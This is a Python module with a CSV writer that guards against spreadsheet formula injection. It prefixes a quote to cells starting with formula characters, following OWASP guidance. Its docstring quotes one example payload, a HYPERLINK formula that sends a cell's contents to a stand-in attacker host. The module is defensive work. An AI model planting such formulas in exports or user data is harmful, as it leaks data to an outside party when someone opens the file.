"""The one CSV writer the product uses: files that are safe to open in a spreadsheet (ADR 0063).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip
before looking) is read as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` in a chat message
would run when a team member opens the export. Following OWASP's CSV-injection guidance, every text cell that
starts with one of those characters gets a leading single quote (shown as text, not evaluated); cells holding the
separator, quotes or line breaks are quoted by ``csv`` as usual. Numbers are written as they are.
``tests/architecture/test_csv_writers.py`` keeps other CSV writers out of the code.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet shows it without evaluating it: text that could start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` with every cell neutralised."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
